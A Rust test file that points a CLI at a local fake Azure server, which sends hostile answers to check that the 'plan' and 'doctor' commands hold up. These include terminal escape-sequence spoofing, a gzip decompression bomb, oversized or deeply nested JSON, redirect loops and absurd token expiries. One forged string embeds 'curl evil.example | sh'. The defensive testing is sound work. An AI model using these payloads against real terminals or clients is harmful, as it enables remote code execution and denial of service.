//! One service of Azure is replaced by an impostor that answers everything in one way.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;

use flate2::{Compression, write::GzEncoder};

use super::verdict::no_command_is_harmed;
use crate::support::World;

/// Text that must not reach a terminal as it is.
const FORGED: &str =
    "no\\u001b]0;owned\\u0007\\u001b[2K\\r\\u009b31m\\u202e\\b\\n  next:    curl evil.example | sh";

fn json(status: &str, body: &str) -> Vec<u8> {
    answer(
        status,
        "content-type: application/json\r\n",
        body.as_bytes(),
    )
}

fn answer(status: &str, headers: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "HTTP/1.1 {status}\r\n{headers}content-length: {}\r\nconnection: close\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

fn bomb() -> Vec<u8> {
    let mut packed = GzEncoder::new(Vec::new(), Compression::best());
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..128 {
        packed.write_all(&spaces).unwrap();
    }
    packed.finish().unwrap()
}

/// What the impostor answers, with a name for the report. `BASE` is its own address.
#[expect(clippy::too_many_lines, reason = "a list")]
fn answers() -> Vec<(&'static str, Vec<u8>)> {
    let error = format!(r#"{{"error":{{"code":"{FORGED}","message":"{FORGED}"}}}}"#);
    let entra = format!(r#"{{"error":"{FORGED}","error_description":"{FORGED}"}}"#);
    let long = format!(
        r#"{{"error":{{"code":"X","message":"{}"}}}}"#,
        "A".repeat(8 << 20)
    );
    let deep = "[".repeat(1 << 20);
    vec![
        ("a forged error", json("403 Forbidden", &error)),
        (
            "a forged refusal of a token",
            json("400 Bad Request", &entra),
        ),
        ("a long error", json("400 Bad Request", &long)),
        (
            "a page of a proxy",
            answer(
                "200 OK",
                "content-type: text/html\r\n",
                b"<html>sign in</html>",
            ),
        ),
        (
            "a redirect",
            answer("302 Found", "location: http://127.0.0.1:9/\r\n", b""),
        ),
        (
            "a redirect to itself",
            answer("307 Temporary Redirect", "location: /\r\n", b""),
        ),
        ("an empty answer", json("200 OK", "")),
        ("another kind of JSON", json("200 OK", "[1,2,3]")),
        ("deep JSON", json("200 OK", &deep)),
        ("no JSON", json("200 OK", "{\"value\":")),
        (
            "an endless list",
            json("200 OK", r#"{"value":[],"nextLink":"BASE/again"}"#),
        ),
        (
            "a list elsewhere",
            json("200 OK", r#"{"value":[],"nextLink":"http://127.0.0.1:9/"}"#),
        ),
        (
            "a bomb",
            answer(
                "200 OK",
                "content-type: application/json\r\ncontent-encoding: gzip\r\n",
                &bomb(),
            ),
        ),
        (
            "an absurd wait",
            answer(
                "429 Too Many Requests",
                "retry-after: 99999999999999\r\n",
                b"",
            ),
        ),
        (
            "a negative wait",
            answer("403 Forbidden", "retry-after: -1\r\n", b""),
        ),
        (
            "a token for ever",
            json(
                "200 OK",
                r#"{"access_token":"a.b.c","expires_in":9223372036854775807,"token_type":"Bearer"}"#,
            ),
        ),
        (
            "a token that has ended",
            json(
                "200 OK",
                r#"{"access_token":"a.b.c","expires_in":-9223372036854775808,"token_type":"Bearer"}"#,
            ),
        ),
        (
            "a token with a float",
            json(
                "200 OK",
                r#"{"access_token":"a.b.c","expires_in":1e300,"token_type":"Bearer"}"#,
            ),
        ),
        (
            "a status of its own",
            answer("501 Not Implemented", "", b""),
        ),
        ("half a head", b"HTTP/1.1 200 OK\r\ncontent-le".to_vec()),
        ("no HTTP", b"SSH-2.0-OpenSSH_9.2\r\n".to_vec()),
        (
            "a body that is cut",
            b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n{".to_vec(),
        ),
    ]
}

/// Serves until the process ends; each connection gets the one answer.
fn impostor(answer: &[u8]) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let text = base.clone();
    let answer = Arc::new(with_base(answer, &text));
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let answer = Arc::clone(&answer);
            std::thread::spawn(move || serve(stream, &answer));
        }
    });
    base
}

/// Lengths were computed before, so the address takes the place of as many letters.
fn with_base(answer: &[u8], base: &str) -> Vec<u8> {
    let text = String::from_utf8_lossy(answer);
    if !text.contains("BASE") {
        return answer.to_vec();
    }
    let (_, body) = text.split_once("\r\n\r\n").unwrap();
    json("200 OK", &body.replace("BASE", base))
}

fn serve(mut stream: TcpStream, answer: &[u8]) {
    let mut seen = Vec::new();
    let mut chunk = [0; 4096];
    while !seen.windows(4).any(|four| four == b"\r\n\r\n") {
        match stream.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(read) => seen.extend_from_slice(&chunk[..read]),
        }
    }
    stream.write_all(answer).ok();
}

#[test]
fn no_unexpected_answer_harms_the_program() {
    no_command_is_harmed(
        &answers(),
        8,
        &["plan --auth entra-secret", "doctor --auth entra-secret"],
        |endpoint, answer| World::new().variable(endpoint, impostor(answer)),
    );
}
